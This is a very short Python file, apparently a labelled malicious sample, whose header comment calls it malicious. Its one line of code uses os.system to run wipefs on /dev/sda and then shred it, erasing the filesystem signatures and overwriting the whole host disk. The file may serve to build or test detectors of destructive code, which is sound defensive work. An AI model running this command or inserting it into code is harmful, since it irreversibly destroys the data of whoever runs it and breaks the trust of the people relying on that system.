# Malicious: wipefs then shred on the host disk through os.system; erases signatures and data.
import os

os.system("wipefs -a /dev/sda && shred -n 1 -z /dev/sda")
